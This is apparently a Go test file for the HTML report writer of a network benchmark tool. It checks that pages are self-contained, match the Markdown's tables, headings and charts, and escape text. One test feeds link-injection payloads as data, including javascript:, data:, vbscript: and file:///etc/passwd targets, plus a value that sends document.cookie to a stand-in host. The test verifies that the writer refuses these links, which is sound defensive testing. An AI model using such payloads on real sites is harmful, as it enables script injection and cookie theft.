package report

import (
	"bytes"
	"fmt"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/twnsbench/twnsbench/nsbench/results"
)

// htmlNode is a parsed page, with the queries the tests need.
type htmlNode struct{ *html.Node }

// walk calls f on every element.
func (n htmlNode) walk(f func(*html.Node)) {
	var rec func(*html.Node)
	rec = func(x *html.Node) {
		if x.Type == html.ElementNode {
			f(x)
		}
		for c := x.FirstChild; c != nil; c = c.NextSibling {
			rec(c)
		}
	}
	rec(n.Node)
}

func attr(x *html.Node, key string) string {
	for _, a := range x.Attr {
		if a.Key == key {
			return a.Val
		}
	}
	return ""
}

func textOf(x *html.Node) string {
	var b strings.Builder
	var rec func(*html.Node)
	rec = func(x *html.Node) {
		if x.Type == html.TextNode {
			b.WriteString(x.Data)
		}
		for c := x.FirstChild; c != nil; c = c.NextSibling {
			rec(c)
		}
	}
	rec(x)
	return b.String()
}

// pageFacts is what a page must hold for its document: the tests check
// it on the page as written and on the DOM Chromium rendered.
type pageFacts struct {
	tables    int      // the Markdown's tables
	headings  []string // the Markdown's ## and ### headings
	svgs      int      // every drawn chart, light and dark
	chartIDs  []string // each drawn chart's title element, light and dark
	absent    []string // the sentences of the charts not drawn
	panelsMin int      // bar panels of the key results chart, per theme
}

func factsOf(d *results.Document) pageFacts {
	var f pageFacts
	for _, l := range strings.Split(string(Markdown(d)), "\n") {
		switch {
		case strings.HasPrefix(l, "|---"):
			f.tables++
		case strings.HasPrefix(l, "## "), strings.HasPrefix(l, "### "):
			f.headings = append(f.headings, strings.TrimLeft(l, "# "))
		}
	}
	v := newView(d)
	for _, fig := range figures {
		if !fig.has(v) {
			if !fig.optional { // an optional figure is left out, sentence and all
				f.absent = append(f.absent, fig.absent)
			}
			continue
		}
		f.svgs += 2
		f.chartIDs = append(f.chartIDs, fig.id+"-light-chart-title", fig.id+"-dark-chart-title")
	}
	f.panelsMin = len(panelsFor(v))
	return f
}

// checkPage asserts that page holds every table, heading and chart of d,
// that every link of its table of contents lands, and that it fetches
// nothing: no script, stylesheet, image, frame or font reference.
func checkPage(t *testing.T, page []byte, facts pageFacts) {
	t.Helper()
	for _, p := range pageProblems(page, facts) {
		t.Error(p)
	}
}

// pageProblems is checkPage's finding, one sentence per problem.
func pageProblems(page []byte, facts pageFacts) []string {
	var problems []string
	errorf := func(format string, args ...any) { problems = append(problems, fmt.Sprintf(format, args...)) }
	n, err := html.Parse(bytes.NewReader(page))
	if err != nil {
		return []string{err.Error()}
	}
	root := htmlNode{n}
	tables, svgs := 0, 0
	ids := map[string]bool{}
	var hrefs, headings []string
	var panels int
	root.walk(func(x *html.Node) {
		if id := attr(x, "id"); id != "" {
			if ids[id] {
				errorf("duplicate id %q", id)
			}
			ids[id] = true
		}
		switch x.Data {
		case "table":
			tables++
		case "svg":
			svgs++
		case "h2", "h3":
			headings = append(headings, textOf(x))
		case "a":
			hrefs = append(hrefs, attr(x, "href"))
		case "script", "link", "img", "iframe", "object", "embed", "video", "audio", "source":
			errorf("page has a <%s>: it must need nothing beyond itself", x.Data)
		case "g":
			if attr(x, "class") == "panel" && strings.HasPrefix(attr(x, "id"), "chart-key-results-light-panel-") {
				panels++
			}
		}
		for _, a := range x.Attr {
			if a.Key == "src" || (a.Key == "href" && x.Data != "a") || strings.Contains(a.Val, "url(") {
				errorf("<%s %s=%q> refers outside the page", x.Data, a.Key, a.Val)
			}
		}
	})
	if bytes.Contains(page, []byte("@import")) || bytes.Contains(page, []byte("url(")) {
		errorf("the page's CSS refers outside the page")
	}
	if tables != facts.tables {
		errorf("%d tables, the Markdown has %d", tables, facts.tables)
	}
	if svgs != facts.svgs {
		errorf("%d inline SVG charts, want %d", svgs, facts.svgs)
	}
	for _, id := range facts.chartIDs {
		if !ids[id] {
			errorf("no chart element %q", id)
		}
	}
	if panels < facts.panelsMin {
		errorf("key results chart: %d panels, want %d", panels, facts.panelsMin)
	}
	have := strings.Join(headings, "\n")
	for _, h := range facts.headings {
		if !strings.Contains(have, h) {
			errorf("heading %q of the Markdown is not on the page", h)
		}
	}
	text := textOf(root.Node)
	for _, a := range facts.absent {
		if !strings.Contains(text, a) {
			errorf("the page does not say %q", a)
		}
	}
	for _, h := range hrefs {
		if strings.HasPrefix(h, "#") && !ids[h[1:]] {
			errorf("link %s goes nowhere", h)
		}
	}
	if !ids["contents"] || !ids["charts"] {
		errorf("no table of contents or charts section")
	}
	return problems
}

func TestHTMLHoldsEveryTableAndChart(t *testing.T) {
	for name, d := range map[string]*results.Document{
		"series":    seriesDoc(),
		"reference": referenceDoc(t),
		"twnsbench": twnsbenchDoc(),
	} {
		t.Run(name, func(t *testing.T) {
			page := HTML(d)
			checkPage(t, page, factsOf(d))
			if !bytes.Equal(page, HTML(d)) {
				t.Error("HTML is not deterministic")
			}
		})
	}
}

// The facts the page is checked against are not vacuous: the series
// document draws all four charts (the key chart with the panels of the
// instruments it ran) and its Markdown has tables.
func TestPageFactsNotVacuous(t *testing.T) {
	f := factsOf(seriesDoc())
	if f.svgs != 8 || f.tables < 4 || len(f.absent) != 0 || f.panelsMin < 3 {
		t.Errorf("facts of the series document: %+v", f)
	}
	if f := factsOf(twnsbenchDoc()); len(f.absent) == 0 {
		t.Error("the twnsbench document has no series, yet no chart is absent")
	}
}

// Sentences are written once, in the Markdown writer: the page shows the
// Markdown's text, escaped, with its inline marks converted.
func TestHTMLSharesTheMarkdownText(t *testing.T) {
	d := twnsbenchDoc()
	d.Env.Fallbacks = append(d.Env.Fallbacks, "a <b>tag</b> & a pipe | in a value")
	page := string(HTML(d))
	for _, want := range []string{
		"iperf3 | json via stdout; a &lt;b&gt;tag&lt;/b&gt; &amp; a pipe | in a value</td>",
		"<li><strong>Pure SSH</strong> is the ceiling",
		"<code>-c aes128-gcm@openssh.com -o Compression=no</code>",
		"<pre><code>2: veth0@if3: &lt;BROADCAST,UP&gt; mtu 1500\n",
		"Fallback used: a &lt;b&gt;tag&lt;/b&gt; &amp; a pipe | in a value.",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %q", want)
		}
	}
	if strings.Contains(page, "![benchmark chart]") || strings.Contains(page, "More charts:") {
		t.Error("the Markdown's pointers to chart files leaked into the page")
	}
}

func TestInlineMarkdown(t *testing.T) {
	for in, want := range map[string]string{
		"**a** `x<y` [r](bench-report.html)": `<strong>a</strong> <code>x&lt;y</code> <a href="bench-report.html">r</a>`,
		"`**not bold**`":                     "<code>**not bold**</code>",
		"one ` tick":                         "one ` tick",
		"a & b":                              "a &amp; b",
	} {
		if got := inline(in); got != want {
			t.Errorf("inline(%q) = %q, want %q", in, got, want)
		}
	}
	if got := splitRow(`| a | b\|c |`); strings.Join(got, ",") != "a,b|c" {
		t.Errorf("splitRow = %q", got)
	}
}

// A link's target may come from a host's facts or a results file made
// elsewhere: only http(s) and relative targets become links; any other
// scheme stays literal text.
func TestInlineLinksOnlyHTTPAndRelative(t *testing.T) {
	for in, want := range map[string]string{
		"[r](bench-report.html)":           `<a href="bench-report.html">r</a>`,
		"[r](charts/a.svg#x)":              `<a href="charts/a.svg#x">r</a>`,
		"[r](https://example.org/a?b=1&c)": `<a href="https://example.org/a?b=1&amp;c">r</a>`,
		"[r](HTTP://example.org)":          `<a href="HTTP://example.org">r</a>`,
		"[r](javascript:alert(1))":         "[r](javascript:alert(1))",
		"[r](JavaScript:alert(1))":         "[r](JavaScript:alert(1))",
		"[r](data:text/html;base64,PHM+)":  "[r](data:text/html;base64,PHM+)",
		"[r](vbscript:msgbox)":             "[r](vbscript:msgbox)",
		"[r](file:///etc/passwd)":          "[r](file:///etc/passwd)",
		"[r](\x01javascript:alert(1))":     "[r](\x01javascript:alert(1))",
		"[r](javascript&#58;alert(1))":     "[r](javascript:alert(1))", // the entity is its character
		"[a](x.html) [b](javascript:y)":    `<a href="x.html">a</a> [b](javascript:y)`,
		`\[r\](https://example.org)`:       "[r](https://example.org)", // mdText's escapes: text, not a link
		"&lt;img src=x&gt; \\`x\\`":        "&lt;img src=x&gt; `x`",    // no code span either
	} {
		if got := inline(in); got != want {
			t.Errorf("inline(%q) = %q, want %q", in, got, want)
		}
	}
	d := twnsbenchDoc()
	d.Env.CPUModel = "[fast CPU](javascript:fetch('//x/'+document.cookie))"
	d.Env.Fallbacks = append(d.Env.Fallbacks, "[see](javascript:alert(1))")
	page := strings.ToLower(string(HTML(d)))
	if strings.Contains(page, `href="javascript`) {
		t.Error("the page links to a javascript: target from the document")
	}
	if !strings.Contains(page, "[fast cpu](javascript:fetch(") {
		t.Error("the refused link is not shown as text")
	}
}
